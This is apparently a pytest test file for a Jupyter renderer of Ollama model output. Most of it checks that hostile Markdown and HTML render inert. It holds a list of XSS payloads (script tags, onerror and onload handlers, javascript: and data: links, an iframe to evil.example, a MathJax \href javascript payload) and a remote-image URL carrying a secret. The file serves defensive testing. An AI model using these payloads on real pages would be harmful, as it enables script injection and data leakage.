"""Safe rendering of untrusted model output (ollama_nb.display._render)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from ollama_nb.display._render import (
    Stats,
    answer_bundle,
    escape_pre,
    render_markdown,
    safe_url,
    stats_line,
    streaming_bundle,
    thinking_block,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVa&#x09;ScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[v](vbscript:msgbox(1))",
    "![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    '[t](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    "| a | b |\n|---|---|\n| <script>1</script> | <img src=x onerror=alert(2)> |",
    "```html\n<script>alert(3)</script>\n```",
    "`<b onclick=alert(4)>`",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def live_markup(fragment: str) -> list[str]:
    """Everything in ``fragment`` a browser would execute or load from the network."""
    parser = _Collector()
    parser.feed(fragment)
    found = []
    for tag, attrs in parser.tags:
        if tag in ("script", "iframe", "object", "embed", "svg", "math", "style", "form", "base"):
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "formaction") and value is not None:
                if tag == "img" and value.startswith("data:image/png"):
                    continue
                if not value.startswith(("http://", "https://", "mailto:")):
                    found.append(f"{tag}[{name}={value}]")
                if tag == "img":
                    found.append(f"remote image {value}")
    return found


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_renders_inert(payload: str) -> None:
    out = render_markdown(payload)
    assert live_markup(out) == [], out
    bundle = answer_bundle(payload, thinking=payload, status=payload)
    assert live_markup(bundle["text/html"]) == []
    assert live_markup(streaming_bundle(payload, thinking=payload, header=payload)["text/html"]) == []


def test_hostile_text_stays_visible_as_text() -> None:
    out = render_markdown("<script>alert(1)</script>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    out = render_markdown("[x](javascript:alert(1))")
    assert "<a" not in out and "javascript:alert(1)" in out


def test_safe_links_and_images() -> None:
    out = render_markdown("[docs](https://ollama.com/docs) and <https://example.com>")
    assert out.count('<a href="https://') == 2
    assert 'rel="noopener noreferrer nofollow"' in out and 'target="_blank"' in out
    # a remote image is never fetched: it becomes a link
    out = render_markdown("![leak](https://evil.example/p.png?secret=1)")
    assert "<img" not in out and 'href="https://evil.example/p.png?secret=1"' in out
    # inline raster images are shown
    out = render_markdown("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in out


@pytest.mark.parametrize("url,ok", [
    ("https://a.b", True), ("HTTP://a.b", True), ("mailto:x@y.z", True),
    ("javascript:alert(1)", False), (" java\tscript:alert(1)", False), ("JAVASCRIPT:x", False),
    ("data:text/html,x", False), ("file:///etc/passwd", False), ("/files/x", False), ("", False),
])
def test_safe_url(url: str, ok: bool) -> None:
    assert (safe_url(url) is not None) is ok


def test_commonmark_and_tables() -> None:
    out = render_markdown("# T\n\n- a\n- **b**\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n~~no~~\n")
    for piece in ("<h1>T</h1>", "<li><strong>b</strong></li>", "<table", ">1</td>", "<s>no</s>"):
        assert piece in out


def test_thinking_block_collapsed_and_apart() -> None:
    block = thinking_block("step <1>")
    assert block.startswith("<details") and " open" not in block.split(">")[0]
    assert "step &lt;1&gt;" in block
    assert thinking_block("   ") == ""
    bundle = answer_bundle("The answer.", thinking="secret reasoning")
    assert "secret reasoning" not in bundle["text/plain"]
    html_ = bundle["text/html"]
    assert html_.index("secret reasoning") < html_.index("</details>") < html_.index("The answer.")


def test_stats_line_from_final_chunk() -> None:
    final = {"model": "llama3.2", "done": True, "done_reason": "stop", "eval_count": 50,
             "eval_duration": 2_000_000_000, "load_duration": 310_000_000,
             "total_duration": 3_000_000_000, "prompt_eval_count": 7}
    stats = Stats.from_response(final)
    assert stats.tokens_per_second == pytest.approx(25.0)
    assert stats_line(stats) == "llama3.2 · 50 tokens · 25.0 tok/s · load 0.31 s"

    class Typed:  # a client response object: metrics live in .raw
        raw = final

    assert Stats.from_response(Typed()) == stats
    assert stats_line(Stats.from_response(None, model="m")) == "m"
    assert "num_predict" in stats_line(Stats.from_response({**final, "done_reason": "length"}))


def test_answer_bundle_formats() -> None:
    text = 'Here:\n```python\nprint("<hi>")\n```\n'
    code = answer_bundle(text, fmt="code")
    assert code["text/plain"] == 'print("<hi>")'
    assert ">print(&quot;&lt;hi&gt;&quot;)</code></pre>" in code["text/html"]
    js = answer_bundle('{"a": [1, 2]}', fmt="json")
    assert js["text/plain"] == '{\n  "a": [\n    1,\n    2\n  ]\n}'
    assert answer_bundle("not json", fmt="json")["text/plain"] == "not json"
    plain = answer_bundle("*x*", fmt="text")
    assert plain["text/html"].count("<em>") == 0 and "*x*" in plain["text/html"]
    md = answer_bundle("*x*")
    assert "<em>x</em>" in md["text/html"] and md["text/plain"] == "*x*"
    with pytest.raises(ValueError, match="unknown format"):
        answer_bundle("x", fmt="pdf")


def test_status_and_stats_follow_the_answer() -> None:
    bundle = answer_bundle("partial", status="⏹ interrupted",
                           stats=Stats(model="m", eval_count=3))
    assert bundle["text/plain"] == "partial\n\n⏹ interrupted\nm · 3 tokens"
    assert bundle["text/html"].index("partial") < bundle["text/html"].index("interrupted")


def test_escape_pre_and_streaming_bundle() -> None:
    assert escape_pre("a<b").endswith(">a&lt;b</code></pre>")
    b = streaming_bundle("", header="llama3.2 …")
    assert b["text/plain"] == "llama3.2 …"
    b = streaming_bundle("tok", thinking="th")
    assert b["text/plain"] == "tok" and "<details" in b["text/html"]



# -- how an answer is set (issue: what a user sees) -----------------------------------------

class _Styles(HTMLParser):
    """Each start tag with its classes and inline style, in document order."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, set[str], str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.tags.append((tag, set((found.get("class") or "").split()), found.get("style") or ""))


def _styles(fragment: str) -> list[tuple[str, set[str], str]]:
    parser = _Styles()
    parser.feed(fragment)
    return parser.tags


def test_long_words_wrap_and_code_scrolls_sideways() -> None:
    url = "https://example.com/" + "a" * 300
    text = f"See {url} then more words.\n\n```python\nx = '{'b' * 200}'\n```\n"
    for page in (answer_bundle(text)["text/html"], streaming_bundle(text)["text/html"]):
        _tag, classes, style = _styles(page)[0]
        assert "ollama-nb-answer" in classes and "overflow-wrap:anywhere" in style
    pres = [t for t in _styles(answer_bundle(text)["text/html"]) if t[0] == "pre"]
    assert pres, "the code block is a <pre>"
    for _tag, _classes, style in pres:  # one line stays one line, and scrolls
        assert "white-space:pre;" in style and "overflow-x:auto" in style and "width:0;min-width:100%" in style
        assert "word-break:normal" in style and "overflow-wrap:normal" in style
    table = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")
    assert table.startswith('<div style="overflow-x:auto') and "</table>\n</div>" in table


def test_answers_are_set_as_jupyterlab_markdown() -> None:
    """Tables, code, quotes and links take JupyterLab's Markdown CSS (and its theme variables)."""
    for page in (answer_bundle("> q\n\n[l](https://x.y)")["text/html"],
                 streaming_bundle("partial")["text/html"],
                 answer_bundle("x", fmt="text")["text/html"]):
        _tag, classes, style = _styles(page)[0]
        assert {"jp-RenderedHTMLCommon", "jp-RenderedMarkdown"} <= classes
        assert "line-height:var(--jp-content-line-height" in style


def test_streaming_uses_the_final_typeface() -> None:
    """No monospace <pre> while streaming: the text keeps its font when the answer ends."""
    live = streaming_bundle("Some *words* as they arrive", thinking="hmm")["text/html"]
    assert "<pre" not in live and "<code" not in live
    assert "white-space:pre-wrap" in live and "Some *words* as they arrive" in live
    final = answer_bundle("Some *words* as they arrive")["text/html"]
    assert _styles(live)[0][1] == _styles(final)[0][1]  # the same container, the same classes


@pytest.mark.parametrize("source,tex", [
    (r"$\int_0^1 x\,dx$", r"\(\int_0^1 x\,dx\)"),
    (r"$10\%$ of it", r"\(10\%\)"),
    ("$$\n\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}\n$$",
     r"\[\begin{pmatrix} a &amp; b \\ c &amp; d \end{pmatrix}\]"),
    (r"inline \(a_{i}\) too", r"\(a_{i}\)"),
    ("\\[\n\\frac{1}{2}\n\\]", r"\[\frac{1}{2}\]"),
])
def test_math_is_kept_verbatim_for_the_renderer(source: str, tex: str) -> None:
    page = answer_bundle(source)["text/html"]
    assert tex in page, page  # no backslash eaten, no row joined
    math = [t for t in _styles(page) if "ollama-nb-math" in t[1]]
    assert len(math) == 1 and "mathjax_process" in math[0][1]
    assert "mathjax_ignore" in _styles(page)[0][1]  # the prose around it is never typeset


def test_currency_is_not_math() -> None:
    page = answer_bundle("It costs $5 and then $10. Or $ 3 $.")["text/html"]
    assert "ollama-nb-math" not in page and "It costs $5 and then $10." in page
    assert "mathjax_ignore" in _styles(page)[0][1]


def test_math_that_links_or_loads_is_not_typeset() -> None:
    page = answer_bundle(r"$\href{javascript:alert(1)}{x}$ and $\require{html}$")["text/html"]
    assert "ollama-nb-math" not in page and "<code>$\\href" in page
